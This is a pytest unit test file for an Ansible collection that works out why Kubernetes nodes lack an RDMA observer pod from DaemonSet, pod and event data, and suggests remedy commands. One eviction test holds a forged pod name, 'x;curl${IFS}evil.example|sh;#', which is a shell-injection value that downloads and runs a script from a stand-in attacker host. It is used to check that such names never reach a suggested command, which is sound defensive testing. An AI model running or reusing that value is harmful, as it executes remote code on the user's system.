# SPDX-License-Identifier: GPL-3.0-or-later

"""Who has an observer, and why others have none: by the events' own texts, each with a remedy that names a command."""

from __future__ import annotations

import dataclasses
import pathlib
import typing

import pytest
import yaml

from ansible_collections.linerate.rdma.plugins.module_utils._analysis.controllers.observers import (
    GRACE,
    Patience,
    describe_missing,
    judge,
    select_nodes,
)
from ansible_collections.linerate.rdma.plugins.module_utils._model.kubernetes.observers import (
    Observer,
    ObserversSeen,
    Wanted,
)
from ansible_collections.linerate.rdma.plugins.module_utils._observe.kubernetes.kinds import Resource
from ansible_collections.linerate.rdma.plugins.module_utils._parse.kubernetes import core
from ansible_collections.linerate.rdma.plugins.module_utils._parse.kubernetes import observers as parse
from ansible_collections.linerate.rdma.plugins.module_utils._render.cluster.observers import daemon_set
from ansible_collections.linerate.rdma.tests.unit import fake_observers as play

WANTED = Wanted(play.IMAGE)


def made(**wanted: typing.Any) -> Resource:
    """The DaemonSet as the API server shows it."""
    item = daemon_set(dataclasses.replace(WANTED, **wanted))
    return {**item, "metadata": {**item["metadata"], "uid": "uid-of-the-set", "generation": 1}, "status": {}}


DAEMON = {**made(), "status": {"observedGeneration": 1}}
TEMPLATE = DAEMON["spec"]["template"]
Resources = typing.Sequence[Resource]


def seen(
    nodes: Resources = (),
    pods: typing.Optional[typing.Mapping[str, Resource]] = None,
    events: Resources = (),
    daemon: typing.Optional[Resource] = None,
    gone: bool = False,
) -> ObserversSeen:
    """:param daemon: instead of the usual DaemonSet
    :param gone: there is none
    """
    return ObserversSeen(
        play.NAMESPACE,
        None if gone else parse.observer_set(daemon or DAEMON),
        tuple(parse.observer_pod(play.pod_of(name, TEMPLATE, status)) for name, status in (pods or {}).items()),
        {item["metadata"]["name"]: core.parse_node(item) for item in nodes or [play.node("a")]},
        tuple(parse.parse_event(item) for item in events),
    )


def one(world: ObserversSeen, node: str = "a") -> Observer:
    (found,) = judge([node], world)
    return found


def of_daemon(message: str, reason: str = "FailedCreate", **rest: str) -> Resource:
    return play.event("DaemonSet", "linerate-observer", reason, message, **{"uid": DAEMON["metadata"]["uid"], **rest})


def test_a_ready_pod_is_an_observer() -> None:
    found = one(seen(pods={"a": play.running()}))
    assert found == Observer(
        "a", "ready", pod="linerate-observer-a", uid="uid-of-a", container="observer", image_id=play.IMAGE
    )
    assert describe_missing(found) == ""


@pytest.mark.parametrize(
    ("message", "reason", "command"),
    [
        (play.SCC, "scc", "oc adm policy add-scc-to-user privileged -z linerate-observer -n linerate-observers"),
        (
            play.POD_SECURITY,
            "pod_security",
            "kubectl label namespace linerate-observers pod-security.kubernetes.io/enforce=privileged",
        ),
        (play.QUOTA, "quota", "kubectl describe resourcequota -n linerate-observers"),
        (play.SCOPES, "quota", "kubectl describe resourcequota -n linerate-observers"),
        (play.PRIORITY, "priority_class", "kubectl get priorityclass"),
        (play.WEBHOOK, "policy", "kubectl get events -n linerate-observers --field-selector reason=FailedCreate"),
        ('Error creating: pods "x" is forbidden: error looking up service account', "refused", "kubectl get events"),
    ],
)
def test_what_the_api_server_refuses(message: str, reason: str, command: str) -> None:
    found = one(seen(events=[of_daemon(message)]))
    assert (found.phase, found.reason) == ("waiting", reason)
    assert found.detail.startswith(message[:250]) and command in found.remedy
    assert reason in GRACE


CAPTURED = yaml.safe_load(
    (pathlib.Path(__file__).parents[1] / "fixtures/kubernetes/events-of-a-daemonset.yaml").read_text(encoding="utf-8")
)["items"]


@pytest.mark.parametrize(
    ("number", "reason"), [(0, "pod_security"), (1, "pod_security"), (2, "quota"), (3, "priority_class")]
)
def test_events_of_a_real_controller(number: int, reason: str) -> None:
    daemon = {**DAEMON, "metadata": {**DAEMON["metadata"], "uid": CAPTURED[number]["involvedObject"]["uid"]}}
    found = one(seen(events=[CAPTURED[number]], daemon=daemon))
    assert (found.reason, found.detail.startswith('Error creating: pods "linerate-observer-')) == (reason, True)
    # of the older ones only the last counts
    parsed = [
        parse.parse_event(item)
        for item in CAPTURED
        if item["involvedObject"]["uid"] == CAPTURED[number]["involvedObject"]["uid"]
    ]
    assert all(item.warning and item.reason == "FailedCreate" and item.time.startswith("2026-") for item in parsed)


def test_the_last_refusal_counts() -> None:
    first, last = of_daemon(play.SCC, time="2026-01-02T03:04:05Z"), of_daemon(play.QUOTA, time="2026-01-02T03:05:05Z")
    assert [one(seen(events=events)).reason for events in ([first, last], [last, first])] == ["quota", "quota"]


def test_an_event_of_the_newer_api_has_its_time_in_its_series() -> None:
    item = {**of_daemon(play.SCC), "lastTimestamp": None, "eventTime": "2026-01-02T03:04:05.000000Z"}
    assert parse.parse_event(item).time == "2026-01-02T03:04:05.000000Z"
    assert (
        parse.parse_event({**item, "series": {"count": 4, "lastObservedTime": "2026-01-02T03:09:05.000000Z"}}).time
        == "2026-01-02T03:09:05.000000Z"
    )


def test_an_image_that_is_not_there_is_named_with_one_message_and_the_variable() -> None:
    name = "registry.example/rdma-tols:1"
    error = f'rpc error: code = NotFound desc = failed to resolve reference "{name}": not found'
    status = play.waiting("ErrImagePull", error)
    event = play.event("Pod", "linerate-observer-a", "Failed", f'Failed to pull image "{name}": {error}')
    told = one(seen(pods={"a": status}, events=[event]))
    assert told.reason == "image" and told.detail.startswith(f"{play.IMAGE} cannot be pulled. ")
    assert "The registry has no image with this name" in told.detail and "ErrImagePull: " in told.detail
    assert told.detail.count("rpc error") == 1, "the runtime's message is said once"
    assert "Correct rdma_observers_image" in told.remedy
    invalid = one(seen(pods={"a": play.waiting("InvalidImageName", "couldn't parse image name")}))
    assert "The name of the image is invalid. InvalidImageName: " in invalid.detail
    assert "rdma_observers_image" in invalid.remedy


IMAGE = play.waiting("ImagePullBackOff", 'Back-off pulling image "registry.example/rdma-tools"')
NO_ROOM = "0/3 nodes are available: 1 Insufficient cpu, 2 node(s) didn't match Pod's node affinity/selector."
SANDBOX = "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox"
FAILED = "Found failed daemon pod linerate-observers/linerate-observer-old on node a, will try to kill it"


@pytest.mark.parametrize(
    ("status", "events", "reason", "detail", "command"),
    [
        (
            IMAGE,
            [
                (
                    "Failed",
                    (
                        'Failed to pull image "registry.example/rdma-tools": rpc error: code = Unknown desc ='
                        " unauthorized: authentication required"
                    ),
                ),
                ("Failed", "Error: ErrImagePull"),
            ],
            "image",
            "unauthorized: authentication required",
            "kubectl create secret docker-registry",
        ),
        (
            play.waiting(
                "ErrImagePull",
                'rpc error: code = NotFound desc = failed to pull and unpack image: "registry.example/rdma-tools": not'
                " found",
            ),
            [],
            "image",
            "code = NotFound",
            "kubectl describe pod linerate-observer-a -n linerate-observers",
        ),
        (
            play.waiting("ErrImageNeverPull", "Container image is not present with pull policy of Never"),
            [],
            "image",
            "Never",
            "IfNotPresent",
        ),
        (
            play.waiting("CreateContainerError", 'exec: "/bin/sh": stat /bin/sh: no such file or directory'),
            [],
            "container",
            "no such file",
            "kubectl describe pod",
        ),
        (
            play.waiting("CrashLoopBackOff", "back-off 5m0s restarting failed container=observer"),
            [],
            "container",
            "back-off",
            "/bin/sh",
        ),
        (play.pending(NO_ROOM), [], "unschedulable", "Insufficient cpu", "kubectl describe pod"),
        (
            play.ended("Evicted", "The node was low on resource: ephemeral-storage."),
            [],
            "ended",
            "ephemeral-storage",
            "kubectl describe pod",
        ),
        (
            play.ended("OutOfcpu", "Pod was rejected: Node didn't have enough resource: cpu"),
            [],
            "ended",
            "enough resource",
            "kubectl describe pod",
        ),
        (
            {"phase": "Pending"},
            [("FailedCreatePodSandBox", SANDBOX)],
            "sandbox",
            "failed to setup network",
            "kubectl describe pod",
        ),
        ({"phase": "Pending"}, [], "starting", "the scheduler has not processed the pod yet", "kubectl describe pod"),
    ],
)
def test_what_the_scheduler_and_the_kubelet_say(
    status: Resource, events: typing.Sequence[tuple[str, str]], reason: str, detail: str, command: str
) -> None:
    told = [
        play.event("Pod", "linerate-observer-a", name, text, f"2026-01-02T03:04:0{number}Z")
        for number, (name, text) in enumerate(events)
    ]
    found = one(seen(pods={"a": status}, events=told))
    assert (found.phase, found.reason, found.pod) == ("waiting", reason, "linerate-observer-a")
    assert detail in found.detail and command in found.remedy
    assert describe_missing(found).startswith(f"node a has no observer ({reason}): ") and "\n" not in describe_missing(
        found
    )


@pytest.mark.parametrize("uid", ["uid-of-another", " "])
def test_an_event_that_does_not_name_the_pod_by_its_uid_decides_nothing(uid: str) -> None:
    """The kubelet of another node knows the name of the pod, and not its uid."""
    events = [
        play.event("Pod", "linerate-observer-a", "FailedCreatePodSandBox", SANDBOX, uid=uid),
        play.event("DaemonSet", "linerate-observer", "FailedCreate", play.SCC, uid=uid),
    ]
    found = one(seen(pods={"a": {"phase": "Pending"}}, events=events))
    assert (found.reason, "failed to setup network" in found.detail) == ("starting", False)
    assert one(seen(events=events)).reason == one(seen()).reason


def test_an_eviction_is_known_when_its_pod_is_gone() -> None:
    evicted = play.event("Pod", "linerate-observer-old", "Evicted", "The node was low on resource: memory.")
    found = one(seen(events=[evicted, of_daemon(FAILED, "FailedDaemonPod")]))
    assert (found.reason, "low on resource: memory" in found.detail) == ("ended", True)
    assert "involvedObject.name=linerate-observer-old" in found.remedy
    # another node's is none of this one's
    assert (
        one(seen([play.node("a"), play.node("b")], events=[evicted, of_daemon(FAILED, "FailedDaemonPod")]), "b").reason
        == "no_pod"
    )
    # the name of the pod stands in a command, and each kubelet may write events
    forged = FAILED.replace("linerate-observer-old", "x;curl${IFS}evil.example|sh;#")
    assert one(seen(events=[evicted, of_daemon(forged, "FailedDaemonPod")])).reason == "no_pod"


def test_a_lost_node() -> None:
    for pods in ({}, {"a": {"phase": "Pending"}}, {"a": play.waiting("ContainerCreating", "")}):
        found = one(seen([play.node("a", ready=False)], pods))
        assert (found.reason, "Kubelet stopped posting" in found.detail, "kubectl describe node a" in found.remedy) == (
            "node_not_ready",
            True,
            True,
        )
    # its network alone may be what is missing, and observers are in the host's
    assert one(seen([play.node("a", ready=False)], {"a": play.running()})).phase == "ready"


def test_who_is_left_out() -> None:
    by_label = made(node_selector={"gpu": "yes"})
    found = one(seen(daemon=by_label, events=[of_daemon(play.SCC)]))
    assert (found.reason, "gpu=yes" in found.detail, "kubectl label node a gpu=yes" in found.remedy) == (
        "left_out",
        True,
        True,
    )
    by_name = made(nodes=("b",))
    assert one(seen(daemon=by_name)).reason == "left_out"
    assert one(seen(), "z").reason == "no_node"
    windows = play.node("a")
    windows["metadata"]["labels"]["kubernetes.io/os"] = "windows"
    assert "kubernetes.io/os=linux" in one(seen([windows])).detail


def test_who_waits_for_the_controller() -> None:
    unseen = {**DAEMON, "status": {"observedGeneration": 0}}
    assert [one(world).reason for world in (seen(daemon=unseen), seen(), seen(gone=True))] == [
        "not_seen",
        "no_pod",
        "no_daemon_set",
    ]


def test_a_pod_of_other_options_is_no_observer() -> None:
    old = made(lifetime=60)
    assert (
        one(seen(pods={"a": play.running()}, daemon=old)).phase,
        one(seen(pods={"a": play.running()}, daemon=old)).reason,
    ) == ("waiting", "outdated")
    pod = play.pod_of("a", TEMPLATE, play.running())
    pod["metadata"]["deletionTimestamp"] = "2026-01-02T03:04:05Z"
    going = dataclasses.replace(seen(), pods=(parse.observer_pod(pod),))
    assert (one(going).phase, one(going).reason) == ("waiting", "outdated")
    # the one that comes counts, not the one that goes
    both = dataclasses.replace(going, pods=(*going.pods, *seen(pods={"a": play.running()}).pods))
    assert one(both).phase == "ready"


@pytest.mark.parametrize(
    "owners",
    [
        [],
        # as a kubelet's mirror pod has it
        [{"apiVersion": "v1", "kind": "Node", "name": "a", "uid": "uid-of-the-node", "controller": True}],
        [
            {
                "apiVersion": "apps/v1",
                "kind": "DaemonSet",
                "name": "linerate-observer",
                "uid": "of-an-older-one",
                "controller": True,
            }
        ],
        [{"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "linerate-observer", "uid": "uid-of-the-set"}],
    ],
)
def test_a_pod_of_others_with_the_labels_is_no_observer(owners: list[Resource]) -> None:
    pod = play.pod_of("a", TEMPLATE, play.running())
    theirs = parse.observer_pod({**pod, "metadata": {**pod["metadata"], "ownerReferences": owners, "name": "aaa"}})
    assert one(dataclasses.replace(seen(), pods=(theirs,))).reason == "no_pod"
    assert one(dataclasses.replace(seen(), pods=(theirs, parse.observer_pod(pod)))).pod == "linerate-observer-a"
    # a DaemonSet without a uid controls nothing
    blank = parse.observer_set({**DAEMON, "metadata": {**DAEMON["metadata"], "uid": ""}})
    assert one(dataclasses.replace(seen(), pods=(theirs,), daemon=blank)).reason == "no_pod"


def test_an_event_of_another_daemon_set_says_nothing() -> None:
    assert one(seen(events=[of_daemon(play.SCC, uid="of-an-older-one")])).reason == "no_pod"


def test_what_cannot_be_read_is_unknown() -> None:
    found = one(dataclasses.replace(seen(pods={"a": play.running()}), unread=("pods is forbidden",)))
    assert (found.phase, found.reason) == ("ready", "")
    found = one(dataclasses.replace(seen(), unread=("pods is forbidden",)))
    assert (found.reason, found.detail, "kubectl apply -f docs/rbac/observers.yml" in found.remedy) == (
        "unread",
        "pods is forbidden",
        True,
    )


def test_the_first_words_of_a_long_refusal_stay() -> None:
    found = one(seen(events=[of_daemon(play.SCC + "x" * 10_000 + "end")]))
    assert len(found.detail) < 700 and found.detail.startswith("Error creating") and found.detail.endswith("end")


def test_patience() -> None:
    patience = Patience({"scc": 20.0, "no_node": 0.0})
    refused, unknown = Observer("a", "waiting", "scc"), Observer("b", "waiting", "no_node")
    slow = Observer("c", "waiting", "starting")
    assert [item.phase for item in patience.apply([refused, unknown, slow], 0.0)] == ["waiting", "failed", "waiting"]
    assert patience.wake(5.0) == 15.0
    assert [item.phase for item in patience.apply([refused, slow], 19.0)] == ["waiting", "waiting"]
    assert [item.phase for item in patience.apply([refused, slow], 20.0)] == ["failed", "waiting"]
    # what became another reason, or got better, begins anew
    assert patience.apply([Observer("a", "ready")], 21.0)[0].phase == "ready"
    assert patience.apply([refused], 22.0)[0].phase == "waiting"
    assert Patience({}).wake(0.0) is None


def test_the_selector_takes_nodes_of_linux() -> None:
    windows = play.node("w", gpu="yes")
    windows["metadata"]["labels"]["kubernetes.io/os"] = "windows"
    nodes = [
        core.parse_node(item)
        for item in (play.node("b", gpu="yes"), play.node("a", gpu="yes"), play.node("c"), windows)
    ]
    assert select_nodes(nodes, {"gpu": "yes"}) == ("a", "b")
    assert select_nodes(nodes, {}) == ("a", "b", "c")


def test_what_no_time_mends_fails_at_once_without_a_grace_of_one_s_own() -> None:
    found = Patience().apply(
        [Observer("a", "waiting", "no_node"), Observer("b", "waiting", "left_out"), Observer("c", "waiting", "scc")],
        0.0,
    )
    assert [item.phase for item in found] == ["failed", "failed", "waiting"]


def test_a_grace_of_one_s_own_counts_and_the_next_end_wakes() -> None:
    patience = Patience({"scc": 5.0, "quota": 3.0, "no_node": 7.0})
    waiting = [Observer("a", "waiting", "scc"), Observer("b", "waiting", "quota"), Observer("c", "waiting", "no_node")]
    assert [item.phase for item in patience.apply(waiting, 0.0)] == ["waiting", "waiting", "waiting"]
    assert patience.wake(0.0) == 3.0 and patience.wake(2.5) == 0.5
    # what ends now is told now, and nobody waits for it
    assert patience.wake(3.0) == 2.0 and patience.wake(7.0) is None
    assert [item.phase for item in patience.apply(waiting, 5.0)] == ["failed", "failed", "waiting"]


def test_a_ready_pod_counts_before_one_that_is_to_come() -> None:
    pods = tuple(
        dataclasses.replace(parse.observer_pod(play.pod_of("a", TEMPLATE, status)), name=name)
        for name, status in (("linerate-observer-1", {"phase": "Pending"}), ("linerate-observer-2", play.running()))
    )
    for order in (pods, pods[::-1]):
        assert one(dataclasses.replace(seen(), pods=order)).pod == "linerate-observer-2"


def test_a_waiting_pod_is_named_by_its_uid_as_well() -> None:
    found = one(seen(pods={"a": IMAGE}))
    assert (found.phase, found.pod, found.uid) == ("waiting", "linerate-observer-a", "uid-of-a")


def test_an_old_pod_that_cannot_start_says_why() -> None:
    old = made(lifetime=60)
    assert one(seen(pods={"a": IMAGE}, daemon=old)).reason == "image"
